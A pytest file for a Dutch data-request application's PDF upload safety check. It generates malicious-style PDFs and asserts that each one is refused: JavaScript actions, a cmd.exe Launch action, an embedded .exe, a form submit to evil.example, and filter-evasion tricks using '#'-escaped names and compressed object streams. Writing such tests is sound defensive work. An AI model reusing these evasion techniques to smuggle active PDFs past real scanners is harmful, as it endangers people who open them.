"""Issue 13 point 8: every PDF that enters dsr, from staff (into an access package) and from requesters
("Mijn verzoek"), is parsed (dsr/services/pdf_safety.py), and one that runs or opens something, or that
cannot be read or is encrypted, is refused at the file field in Dutch, with nothing stored.

The crafted files are made here with pypdf's writer and its generic objects (no fixtures on disk), plus
two written by hand: a name spelt with a ``#`` escape, and a script packed in a compressed object stream
where no readable name is left in the bytes."""
from __future__ import annotations

import io
import zlib
from pathlib import Path

import pytest
import sqlalchemy as sa
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from dsr.extensions import db
from dsr.models import CaseUpload
from tests.helpers import plain_pdf, text_of
from tests.integration.helpers import documents_of, open_portal, reviewed_case, upload


def _pdf(change) -> bytes:
    """A one-page PDF made by pypdf, changed by ``change(writer)`` before it is written."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    action.update({NameObject("/" + key): value for key, value in entries.items()})
    return action


def _document_script(writer: PdfWriter) -> None:
    # What add_js did (removed in pypdf 7): a document-level script in the /Names tree.
    script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("x"), script])})})


def _open_action(action: DictionaryObject):
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return change


def _page_action(writer: PdfWriter) -> None:
    # /AA on a page: runs when the page is opened (here it would submit a form to a server).
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action(
        "/SubmitForm", F=TextStringObject("https://evil.example/"))})


def _encrypted(writer: PdfWriter) -> None:
    writer.encrypt(user_password="geheim", owner_password="geheim")


def _escaped_name() -> bytes:
    """``/J#61vaScript`` is ``/JavaScript`` to every PDF reader; the old byte check missed it."""
    clean = plain_pdf()
    return clean.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")


def _script_in_an_object_stream() -> bytes:
    """A PDF 1.5 file whose open action (object 4) lives in a Flate-compressed object stream (object 5), with
    a cross-reference stream: the words JavaScript and JS appear nowhere in the bytes."""
    packed = b"4 0 "
    inner = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    objstm_data = zlib.compress(packed + inner)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
        5: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
           % (len(packed), len(objstm_data), objstm_data),
    }
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in (1, 2, 3, 5):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    offsets[6] = len(out)
    rows = [(0, 0, 65535), (1, offsets[1], 0), (1, offsets[2], 0), (1, offsets[3], 0), (2, 5, 0),
            (1, offsets[5], 0), (1, offsets[6], 0)]
    table = b"".join(kind.to_bytes(1, "big") + field.to_bytes(4, "big") + gen.to_bytes(2, "big")
                     for kind, field, gen in rows)
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
            % (len(table), table))
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


ACTIVE = "Deze PDF bevat scripts, acties of ingesloten bestanden"
REFUSED = [
    pytest.param(_pdf(_document_script), ACTIVE, id="document JavaScript (add_js)"),
    pytest.param(_pdf(_open_action(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))), ACTIVE,
                 id="OpenAction JavaScript"),
    pytest.param(_pdf(_open_action(_action("/Launch", F=TextStringObject("cmd.exe")))), ACTIVE,
                 id="OpenAction Launch"),
    pytest.param(_pdf(lambda writer: writer.add_attachment("factuur.exe", b"MZ\x90\x00")), ACTIVE,
                 id="embedded file"),
    pytest.param(_pdf(_page_action), ACTIVE, id="page additional action (/AA SubmitForm)"),
    pytest.param(_escaped_name(), ACTIVE, id="/J#61vaScript written with an escape"),
    pytest.param(_script_in_an_object_stream(), ACTIVE, id="script in a compressed object stream"),
    pytest.param(_pdf(_encrypted), "Deze PDF is beveiligd met een wachtwoord of versleuteld", id="encrypted"),
    pytest.param(b"%PDF-1.7\n1 0 obj << /Type /Catalog", "Deze PDF kunnen wij niet lezen", id="unreadable"),
]


def test_the_hand_made_object_stream_file_hides_its_script_from_a_byte_search():
    data = _script_in_an_object_stream()
    assert b"JavaScript" not in data and b"/JS" not in data
    from pypdf import PdfReader  # and a PDF reader does find the action
    assert PdfReader(io.BytesIO(data)).trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"


def _stored_files(app) -> set[Path]:
    files = Path(app.config.get("FILE_STORAGE") or Path(app.instance_path) / "files")
    return {p for p in files.rglob("*") if p.is_file()} if files.exists() else set()


@pytest.mark.parametrize(("data", "message"), REFUSED)
def test_staff_upload_of_an_unsafe_pdf_is_refused_at_the_field(app, client, people, categories, data, message):
    case_id, staff = reviewed_case(app, client, people)
    before = _stored_files(app)
    response = upload(staff, case_id, categories["cijfers"], data=data, name="export.pdf")
    page = text_of(response)
    assert response.status_code == 422 and message in page, page[-2000:]
    assert 'id="file-error"' in page, "the message is at the file field"
    assert "Rapport leerjaar 5" in page, "the title typed is kept"
    assert documents_of(app, case_id) == [] and _stored_files(app) == before


@pytest.fixture
def requester(app, client, people, smtp_server, run_jobs):
    """A requester with a portal session on a fresh case; returns (browser, case id)."""
    from tests.helpers import submit

    case_id = submit(client, people.school_a, requester_email="ouder@example.nl")
    run_jobs()
    browser = app.test_client()
    open_portal(browser, app, case_id, smtp_server, run_jobs)
    return browser


def _portal_upload(browser, data: bytes, note: str = "Het uittreksel"):
    return browser.post("/mijn-verzoek/bestand", data={"file": (io.BytesIO(data), "uittreksel.pdf"), "note": note},
                        content_type="multipart/form-data")


@pytest.mark.parametrize(("data", "message"), REFUSED)
def test_requester_upload_of_an_unsafe_pdf_is_refused_at_the_field(app, requester, data, message):
    before = _stored_files(app)
    response = _portal_upload(requester, data)
    page = text_of(response)
    assert response.status_code == 422 and message in page, page[-2000:]
    assert 'class="error"' in page and "Het uittreksel" in page, "message at the field, the note kept"
    with app.app_context():
        assert db.session.execute(sa.select(sa.func.count(CaseUpload.id))).scalar_one() == 0
    assert _stored_files(app) == before


def test_a_clean_pdf_passes_both_ways(app, client, people, categories, requester):
    # A plain PDF, also one that opens at its first page (/OpenAction as a destination, as exports do)
    # and one with an ordinary web link (a /URI action) on its page.
    def opens_at_page_one(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference,
                                                                     NameObject("/Fit")])

    def with_a_link(writer: PdfWriter) -> None:
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): _action("/URI", URI=TextStringObject("https://www.asg.nl/"))}))])

    clean = [plain_pdf("rapport"), _pdf(opens_at_page_one), _pdf(with_a_link)]
    case_id, staff = reviewed_case(app, client, people, email="ander@example.nl")
    for data in clean:
        assert upload(staff, case_id, categories["cijfers"], data=data).status_code == 302
        assert _portal_upload(requester, data).status_code == 302
    assert len(documents_of(app, case_id)) == 3
    with app.app_context():
        assert db.session.execute(sa.select(sa.func.count(CaseUpload.id))).scalar_one() == 3
